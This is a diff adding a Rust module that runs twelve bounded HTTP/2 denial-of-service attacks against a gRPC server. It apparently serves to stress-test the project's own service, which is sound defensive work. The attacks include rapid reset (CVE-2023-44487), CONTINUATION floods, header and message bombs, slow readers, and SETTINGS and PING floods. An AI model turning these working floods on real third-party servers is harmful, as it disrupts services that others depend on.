@@ -1,0 +1,225 @@
+//! What somebody might do to a server. Each is bounded in count and time, and ends by itself.
+
+use std::{
+    io::{Read as _, Write as _},
+    net::{SocketAddr, TcpStream},
+    thread,
+    time::{Duration, Instant},
+};
+
+use crate::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, RST_STREAM, SETTINGS, call, frame, header,
+};
+
+pub(crate) struct Attack {
+    pub(crate) name: &'static str,
+    pub(crate) run: fn(SocketAddr, Duration),
+}
+
+/// All of them.
+pub(crate) const ATTACKS: [Attack; 12] = [
+    Attack { name: "idle connections", run: idle_connections },
+    Attack { name: "half-open handshakes", run: half_open_handshakes },
+    Attack { name: "connections in a loop", run: connections_in_a_loop },
+    Attack { name: "slow readers", run: slow_readers },
+    Attack { name: "rapid reset", run: rapid_reset },
+    Attack { name: "CONTINUATION flood", run: continuation_flood },
+    Attack { name: "header bombs", run: header_bombs },
+    Attack { name: "message bombs", run: message_bombs },
+    Attack { name: "messages never ended", run: messages_never_ended },
+    Attack { name: "empty DATA flood", run: empty_data_flood },
+    Attack { name: "SETTINGS flood", run: settings_flood },
+    Attack { name: "PING flood", run: ping_flood },
+];
+
+const ACQUIRE: &str = "/fuseboard.v1.BreakerService/Acquire";
+const WATCH: &str = "/fuseboard.v1.BreakerService/WatchEvents";
+const IDLE_MAX: usize = 10_000;
+const THREADS: usize = 4;
+/// Bytes that one attack sends at most.
+const BYTES_MAX: usize = 256 << 20;
+
+fn connect(server: SocketAddr) -> Option<TcpStream> {
+    let stream = TcpStream::connect_timeout(&server, Duration::from_secs(5)).ok()?;
+    let limit = Some(Duration::from_millis(500));
+    stream.set_write_timeout(limit).ok()?;
+    stream.set_read_timeout(limit).ok()?;
+    Some(stream)
+}
+
+/// A connection that has spoken HTTP/2.
+fn greeted(server: SocketAddr) -> Option<TcpStream> {
+    let mut stream = connect(server)?;
+    stream.write_all(HELLO).ok()?;
+    Some(stream)
+}
+
+/// As many connections as there may be, of which nothing is heard.
+fn idle_connections(server: SocketAddr, length: Duration) {
+    // Each is a descriptor here, and one there.
+    let room = rlimit::increase_nofile_limit(IDLE_MAX as u64 + 100).unwrap_or(1_024);
+    let count = IDLE_MAX.min(usize::try_from(room).unwrap().saturating_sub(100));
+    let connections: Vec<_> = (0..count).map_while(|_| connect(server)).collect();
+    hold(length);
+    drop(connections);
+}
+
+/// Connections that begin to speak and stop in the middle of the first word.
+fn half_open_handshakes(server: SocketAddr, length: Duration) {
+    let mut connections = Vec::new();
+    for _ in 0..2_000 {
+        let Some(mut stream) = connect(server) else { break };
+        if stream.write_all(&HELLO[..10]).is_ok() {
+            connections.push(stream);
+        }
+    }
+    hold(length);
+}
+
+#[expect(clippy::disallowed_methods, reason = "an attack lasts in real time")]
+fn hold(length: Duration) {
+    thread::sleep(length);
+}
+
+fn connections_in_a_loop(server: SocketAddr, length: Duration) {
+    // Few enough that the machine's ports do not run out.
+    repeat(length, 5_000, || greeted(server).is_some());
+}
+
+/// Asks for much, and reads nothing of it.
+fn slow_readers(server: SocketAddr, length: Duration) {
+    let mut connections = Vec::new();
+    for _ in 0..100 {
+        let Some(mut stream) = greeted(server) else { break };
+        // Watches, and calls whose answers fill what the peer takes.
+        for number in 0..100_u32 {
+            let (stream_id, path) = (number * 2 + 1, if number % 2 == 0 { WATCH } else { ACQUIRE });
+            let mut asked = frame(HEADERS, END_HEADERS, stream_id, &call(path));
+            // {"breaker": "a"}, or an empty request.
+            let message: &[u8] = if number % 2 == 0 { &[0; 5] } else { &[0, 0, 0, 0, 3, 0x0a, 1, b'a'] };
+            asked.extend(frame(DATA, END_STREAM, stream_id, message));
+            if stream.write_all(&asked).is_err() {
+                break;
+            }
+        }
+        connections.push(stream);
+    }
+    hold(length);
+}
+
+/// Streams that are opened and reset at once (CVE-2023-44487).
+fn rapid_reset(server: SocketAddr, length: Duration) {
+    flood(server, length, |number| {
+        let stream = number * 2 + 1;
+        let mut frames = frame(HEADERS, END_HEADERS, stream, &call(ACQUIRE));
+        frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+        frames
+    });
+}
+
+/// Headers that never end.
+fn continuation_flood(server: SocketAddr, length: Duration) {
+    let more = header("x-more", &[b'a'; 1_000]);
+    flood(server, length, |number| match number {
+        0 => frame(HEADERS, 0, 1, &call(ACQUIRE)),
+        _ => frame(CONTINUATION, 0, 1, &more),
+    });
+}
+
+/// Headers far above the limit, in one block.
+fn header_bombs(server: SocketAddr, length: Duration) {
+    let block = [call(ACQUIRE), header("x-bomb", &[b'a'; 15_000])].concat();
+    flood(server, length, |number| {
+        let stream = number / 8 * 2 + 1;
+        match number % 8 {
+            0 => frame(HEADERS, 0, stream, &block),
+            7 => frame(CONTINUATION, END_HEADERS, stream, &header("x-end", b"")),
+            _ => frame(CONTINUATION, 0, stream, &header("x-bomb", &[b'a'; 15_000])),
+        }
+    });
+}
+
+/// Messages that say that they are 4 GiB long.
+fn message_bombs(server: SocketAddr, length: Duration) {
+    let part = [[0, 0xff, 0xff, 0xff, 0xff].as_slice(), &[b'a'; 16_000]].concat();
+    flood(server, length, |number| {
+        let stream = number * 2 + 1;
+        let mut frames = frame(HEADERS, END_HEADERS, stream, &call(ACQUIRE));
+        frames.extend(frame(DATA, END_STREAM, stream, &part));
+        frames
+    });
+}
+
+/// Calls whose message never comes.
+fn messages_never_ended(server: SocketAddr, length: Duration) {
+    let connections: Vec<_> = (0..20)
+        .filter_map(|_| {
+            let mut stream = greeted(server)?;
+            for number in 0..500_u32 {
+                let stream_id = number * 2 + 1;
+                let mut asked = frame(HEADERS, END_HEADERS, stream_id, &call(ACQUIRE));
+                asked.extend(frame(DATA, 0, stream_id, &[0, 0, 0, 1]));
+                stream.write_all(&asked).ok()?;
+            }
+            Some(stream)
+        })
+        .collect();
+    hold(length);
+    drop(connections);
+}
+
+/// DATA frames that hold nothing and end nothing.
+fn empty_data_flood(server: SocketAddr, length: Duration) {
+    flood(server, length, |number| match number {
+        0 => frame(HEADERS, END_HEADERS, 1, &call(ACQUIRE)),
+        _ => frame(DATA, 0, 1, &[]),
+    });
+}
+
+fn settings_flood(server: SocketAddr, length: Duration) {
+    flood(server, length, |_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
+}
+
+fn ping_flood(server: SocketAddr, length: Duration) {
+    flood(server, length, |_| frame(PING, 0, 0, &[0; 8]));
+}
+
+/// Sends frames as fast as they are taken, over several connections, each opened again when it is closed.
+fn flood(server: SocketAddr, length: Duration, frames: impl Fn(u32) -> Vec<u8> + Sync) {
+    thread::scope(|scope| {
+        for _ in 0..THREADS {
+            scope.spawn(|| {
+                let mut sent = 0;
+                repeat(length, 5_000, || {
+                    let Some(mut stream) = greeted(server) else { return false };
+                    let until = now() + length;
+                    for number in 0..1_000_000 {
+                        let bytes = frames(number);
+                        sent += bytes.len();
+                        if sent > BYTES_MAX / THREADS || now() > until || stream.write_all(&bytes).is_err() {
+                            break;
+                        }
+                    }
+                    // What the server says is read, so that it is not held up by us.
+                    let _ = stream.read(&mut [0; 1_024]);
+                    sent <= BYTES_MAX / THREADS
+                });
+            });
+        }
+    });
+}
+
+/// Does something again and again, at most so often and so long, as long as it works.
+fn repeat(length: Duration, times: usize, mut act: impl FnMut() -> bool) {
+    let until = now() + length;
+    for _ in 0..times {
+        if now() > until || !act() {
+            return;
+        }
+    }
+}
+
+#[expect(clippy::disallowed_methods, reason = "an attack lasts in real time")]
+fn now() -> Instant {
+    Instant::now()
+}
